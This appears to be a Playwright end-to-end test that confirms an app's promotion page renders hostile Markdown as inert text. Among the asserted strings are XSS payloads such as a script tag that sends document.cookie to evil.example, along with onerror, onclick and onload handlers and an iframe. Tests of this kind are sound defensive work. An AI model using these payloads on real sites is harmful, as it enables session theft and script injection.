// A promotion whose Markdown holds a script tag, event attributes, raw HTML,
// javascript:/data:/protocol-relative links and images (promotion-attacks/
// attacks.yaml), compiled by the real toolchain and opened in the real app:
// every attack shows as text or loses its link, no dialog opens, and the page
// asks nothing of any other host. The safe links still work.
import { expect, test } from '@playwright/test';
import { blockingViolations } from './axe';

test.skip(!process.env.LOBBYKIT_ATTACKS_E2E, 'needs the site of promotion-attacks.playwright.config.ts');

const detailsPath = '#/pages/BonusDetails/BonusDetails?id=attacks';

test('a promotion’s hostile body is shown as text and runs nothing', async ({ page, baseURL }) => {
  const site = new URL(baseURL ?? '').origin;
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    const local = url.origin === site || url.protocol === 'blob:' || url.protocol === 'data:';
    if (!local || request.url().includes('evil.example')) foreign.push(request.url());
  });

  await page.goto(`/${detailsPath}`);
  const main = page.getByRole('main');
  await expect(main.getByRole('heading', { level: 1, name: 'Attack surface' })).toBeVisible();
  const body = main.locator('.promotion-details__body');
  await expect(body).toContainText(
    "<script>alert(1); fetch('https://evil.example/steal?c=' + document.cookie)</script>",
  );
  await expect(body).toContainText('<img src="https://evil.example/pixel.png" onerror="alert(2)">');
  await expect(body).toContainText('<b onclick="alert(4)">');
  await expect(body).toContainText('<iframe src="https://evil.example/frame">');
  await expect(body).toContainText('script link');
  await expect(main.locator('.promotion-details__terms')).toContainText('<svg onload=alert(8)></svg>');

  // Nothing but the allowed elements, no handler attributes, no other scheme.
  const unsafe = await main.evaluate((root) => {
    const allowed = new Set([
      'DIV',
      'P',
      'H2',
      'H3',
      'H4',
      'UL',
      'OL',
      'LI',
      'BLOCKQUOTE',
      'PRE',
      'CODE',
      'HR',
      'EM',
      'STRONG',
      'A',
      'SPAN',
      'BR',
    ]);
    const found: string[] = [];
    for (const part of Array.from(root.querySelectorAll('.rich-text, .rich-text *'))) {
      if (!allowed.has(part.tagName)) found.push(part.tagName);
      for (const attribute of Array.from(part.attributes)) {
        if (/^on/i.test(attribute.name) || attribute.name === 'style')
          found.push(`${part.tagName}[${attribute.name}]`);
        if (attribute.name === 'href' && !/^(https?:|#\/|\/)/i.test(attribute.value))
          found.push(attribute.value);
      }
    }
    return found;
  });
  expect(unsafe).toEqual([]);
  await expect(main.locator('script, img[src*="evil"], iframe, svg[onload]')).toHaveCount(0);
  for (const name of ['script link', 'data link', 'relative', 'mail', 'click'])
    await expect(main.getByRole('link', { name, exact: true })).toHaveCount(0);

  const rules = main.getByRole('link', { name: 'the rules' });
  await expect(rules).toHaveAttribute('href', 'https://example.com/rules');
  await expect(rules).toHaveAttribute('target', '_blank');
  await expect(rules).toHaveAttribute('rel', 'noopener noreferrer');

  // Hover and click everything a handler might have hidden on.
  await body.getByText('hover me', { exact: false }).hover();
  await body.getByText('bold', { exact: false }).first().click();
  await page.waitForTimeout(500);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);

  expect(await blockingViolations(page)).toEqual([]);

  // The app route still navigates inside the app.
  await main.getByRole('link', { name: 'the VIP club' }).click();
  await expect(page).toHaveURL(/#\/pages\/VipClubsNew\/VipClubsNew$/);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});
